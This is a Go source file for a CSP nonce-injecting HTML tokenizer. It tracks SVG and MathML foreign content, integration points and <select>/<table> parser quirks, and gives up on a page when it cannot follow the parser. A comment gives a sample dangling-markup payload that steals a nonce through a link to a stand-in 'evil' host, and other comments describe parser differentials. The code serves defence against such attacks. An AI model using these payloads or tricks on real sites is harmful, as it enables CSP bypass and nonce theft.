package csp

// Foreign content: inside <svg> and <math>, the HTML parser reads <style>, <script>, <title>,
// <textarea>, <noscript>, ... as elements whose content is markup, not raw text, and reads
// <![CDATA[ ... ]]> as text. A tokenizer that switched to raw text there would read no tag up
// to the element's end tag while the browser reads tags: user content such as
// `<svg><style></svg><p><link rel=stylesheet href=//evil x=` would then swallow the
// application's next marked tag, nonce included, without the tokenizer seeing the '<' that
// gives the dangling markup away.
//
// The tokenizer follows the elements open in foreign content (a few, bounded), the HTML
// integration points (<foreignObject>, <desc>, <title> in SVG; <mi>, <mo>, <mn>, <ms>,
// <mtext> in MathML) with the HTML elements open inside them, and the tags that break out of
// foreign content (<p>, <div>, </p>, ...), as the tree builder does (WHATWG HTML §13.2.6.5),
// and a <table> inside an integration point up to its end tag (see tableTag).
// Where following it would take the whole tree builder (an end tag that is not the one of the
// innermost element inside an integration point, or that closes an HTML element around the
// <svg>; <annotation-xml> in foreign content; <select>, <template>, <caption>, ...
// inside an integration point; <svg>, <math>, <table> or </template> inside such a table;
// deeper nesting than it follows), it gives up: the rest of the
// page is poisoned, so every later placeholder becomes as many '-' as it has and no nonce
// attribute is kept. The page's later tags then lose their nonce (blocked), and no tag ever
// gets one by a misreading.

// maxForeign is how many elements open in foreign content (and HTML elements open inside
// its integration points) are followed.
const maxForeign = 24

type elemKind uint8

const (
	eForeign elemKind = iota // an SVG or MathML element
	eIP                      // an HTML integration point: its content is HTML
	eHTML                    // an HTML element inside an integration point
	eTable                   // a <table> inside an integration point: HTML up to its end tag
)

type foreignElem struct {
	name [tagNameLen]byte
	n    uint8
	ns   byte // 's' (SVG) or 'm' (MathML), for eForeign and eIP
	kind elemKind
}

func (e *foreignElem) is(name string) bool { return name != "" && name == string(e.name[:e.n]) }

// inForeign reports whether the tokenizer is in foreign content (where <![CDATA[ is text).
func (t *tokenizer) inForeign() bool {
	return t.fN > 0 && t.foreign[t.fN-1].kind == eForeign
}

// treeTag follows the tag that ends through foreign content, and reports whether it is an
// HTML element (so whether a raw text element's content is raw text).
func (t *tokenizer) treeTag(selfClosing bool) bool {
	if t.poisoned {
		return !t.inForeign()
	}
	name := ""
	if t.nameN <= len(t.name) {
		name = string(t.name[:t.nameN]) // compared only: no allocation
	}
	t.selectTag(name)
	if t.fN == 0 {
		t.noteTable(name)
		if !t.endTag && !selfClosing && (name == "svg" || name == "math") {
			t.push(name, name[0], eForeign)
		}
		return true
	}
	top := &t.foreign[t.fN-1]
	if top.kind != eForeign {
		t.htmlInIP(name, selfClosing)
		return true
	}
	if !t.endTag && name == "font" && t.fontAttr {
		// With color, face or size it is HTML's <font> and leaves foreign content, as the
		// tags below do (WHATWG HTML §13.2.6.5); without, an SVG or MathML element.
		t.leaveForeign()
		if t.fN > 0 {
			t.htmlInIP(name, selfClosing)
		}
		return true
	}
	if t.endTag {
		if name == "p" || name == "br" { // they break out of foreign content
			t.leaveForeign()
			return true
		}
		for k := t.fN - 1; k >= 0 && t.foreign[k].kind == eForeign; k-- {
			if t.foreign[k].is(name) {
				t.fN = k
				return false
			}
		}
		t.poison() // it closes an HTML element below: the tree builder's business
		return false
	}
	switch name {
	case "b", "big", "blockquote", "body", "br", "center", "code", "dd", "div", "dl", "dt", "em",
		"embed", "h1", "h2", "h3", "h4", "h5", "h6", "head", "hr", "i", "img", "li", "listing", "menu",
		"meta", "nobr", "ol", "p", "pre", "ruby", "s", "small", "span", "strong", "strike", "sub",
		"sup", "table", "tt", "u", "ul", "var":
		t.leaveForeign() // the tag is an HTML element, where foreign content began
		if t.fN > 0 {
			t.htmlInIP(name, selfClosing)
		} else {
			t.noteTable(name)
		}
		return true
	case "", "annotation-xml": // too long to follow; depends on its encoding attribute
		t.poison()
		return false
	}
	if !selfClosing {
		kind := eForeign
		if top.ns == 's' && (name == "foreignobject" || name == "desc" || name == "title") ||
			top.ns == 'm' && (name == "mi" || name == "mo" || name == "mn" || name == "ms" || name == "mtext") {
			kind = eIP
		}
		t.push(name, top.ns, kind)
	}
	return false
}

// selectTag follows <select>: the HTML standard's parser ignores a <style>, <title>, <xmp>,
// <iframe>, <noembed>, <noframes>, <noscript> or <plaintext> start tag there (its content is
// then markup), while parsers of its customizable <select> (Chromium's) read it, and its
// content as raw text, as the injector does. Which one the browser is cannot be known: such a
// tag inside a <select> gives up on the page. So does an <svg> or <math> there: the older
// parser ignores it and stays in HTML, where `<![CDATA[` is a bogus comment that ends at the
// first '>' and <textarea> closes the <select> (RCDATA), while the relaxed one, as the injector,
// reads SVG or MathML (CDATA text up to ']]>', <textarea> holding tags): user content could
// then hide from the injector a tag that the older parser reads. A <select> ends at its end
// tag, or at the start of another <select>, <input>, <keygen> or <textarea> (which close it in
// the standard's older parser). A <template> inside a <select> gives up too: in the older
// parser its content is read in the template's own mode, where </select>, <input> and
// <textarea> do not close the <select> (Chromium 156 ignores such a </select> as well), and
// after </template> the parser is back in the <select> while the injector would have left it.
func (t *tokenizer) selectTag(name string) {
	switch {
	case t.endTag:
		if name == "select" {
			t.inSelect = false
		}
	case name == "select":
		t.inSelect = t.fN == 0 || t.foreign[t.fN-1].kind != eForeign
	case name == "input" || name == "keygen" || name == "textarea":
		t.inSelect = false
	case t.inSelect && (t.kind == kStyle || t.kind == kRaw || t.kind == kPlaintext),
		t.inSelect && (name == "svg" || name == "math" || name == "template"):
		t.poison()
	}
}

// htmlInIP follows a tag in the HTML inside an integration point: an end tag must close the
// innermost element (the integration point's own when none is open in it); a start tag opens
// an element (not a void one: in HTML `<div/>` is open), or foreign content again.
func (t *tokenizer) htmlInIP(name string, selfClosing bool) {
	if t.foreign[t.fN-1].kind == eTable {
		t.tableTag(name)
		return
	}
	if t.endTag {
		if t.foreign[t.fN-1].is(name) {
			t.fN--
		} else {
			t.poison()
		}
		return
	}
	top := &t.foreign[t.fN-1]
	switch name {
	case "table":
		if t.inSelect || t.tableSeen {
			// Parsers of <select> differ on a <table> in it; and where the document may be in
			// a table's insertion mode, this <table> closes the table around the <math> or
			// <svg> (popping it and its integration point) instead of nesting.
			t.poison()
			return
		}
		t.push(name, 0, eTable)
	case "svg", "math":
		if !selfClosing {
			t.push(name, name[0], eForeign)
		}
	case "mglyph", "malignmark":
		// Right inside a MathML text integration point, these two are MathML elements.
		if top.kind == eIP && top.ns == 'm' {
			if !selfClosing {
				t.push(name, 'm', eForeign)
			}
		} else {
			t.push(name, 0, eHTML)
		}
	case "area", "base", "br", "embed", "hr", "img", "input", "keygen", "link", "meta",
		"param", "source", "track", "wbr":
	case "", "html", "head", "body", "frameset", "frame", "template", "select", "caption",
		"col", "colgroup", "tbody", "thead", "tfoot", "tr", "td", "th", "image", "plaintext":
		// Insertion modes of their own, or no end to follow. Where the foreign content is in a
		// table (foster-parented, or in a cell), the table parts close it: `<table><math>
		// <mtext><col></mtext>` is back in the table's HTML while the stack here says MathML.
		t.poison()
	default:
		t.push(name, 0, eHTML)
	}
}

// tableTag follows a tag inside a <table> opened in an integration point (MathML's
// <mtext><table>, an SVG label's <foreignObject><table>), where the tree builder is in body:
// none of the page's table tags came before (tableSeen), since in a table's insertion mode
// that <table> would close the table around the <math> instead. Everything in it is HTML: the table
// modes insert <tbody>, <tr>, <td>, ... and foster-parent the rest, and none of that changes
// whether content is HTML, so the tags in it are not followed, only the end of the table. No
// end tag but </table> can close the table or an element below it: the table and its cells
// are boundaries of every element scope, and an end tag that names no element of its own
// stops at them (WHATWG HTML §13.2.6.4.9 and §13.2.6.4.7), except </template>, which pops to
// a template without looking at scopes. Given up: </template>, and inside the table <svg>,
// <math>, another <table>, <template>, <plaintext> and <image>.
func (t *tokenizer) tableTag(name string) {
	if t.endTag {
		switch name {
		case "table":
			t.fN--
			t.inSelect = false // a <select> in the table ends with it, in every parser
		case "template", "":
			t.poison()
		}
		return
	}
	switch name {
	case "", "svg", "math", "table", "template", "plaintext", "image":
		t.poison()
	}
}

// noteTable remembers a table's start tag outside integration points (see tableSeen).
func (t *tokenizer) noteTable(name string) {
	if t.endTag {
		return
	}
	switch name {
	case "table", "caption", "colgroup", "col", "tbody", "thead", "tfoot", "tr", "td", "th":
		t.tableSeen = true
	}
}

// leaveForeign pops the foreign elements down to the integration point or HTML element that
// holds them (or the document).
func (t *tokenizer) leaveForeign() {
	for t.fN > 0 && t.foreign[t.fN-1].kind == eForeign {
		t.fN--
	}
}

func (t *tokenizer) push(name string, ns byte, kind elemKind) {
	if t.fN == maxForeign {
		t.poison()
		return
	}
	e := &t.foreign[t.fN]
	e.n = uint8(copy(e.name[:], name))
	e.ns, e.kind = ns, kind
	t.fN++
}

// poison gives up following the page: from here on no nonce is kept or written. Only in
// Placeholder mode: Tags mode serves pages without user content, and keeps nonce-ing them.
func (t *tokenizer) poison() {
	if t.in.mode == Placeholder {
		t.poisoned = true
		t.suspicious = true
	}
}
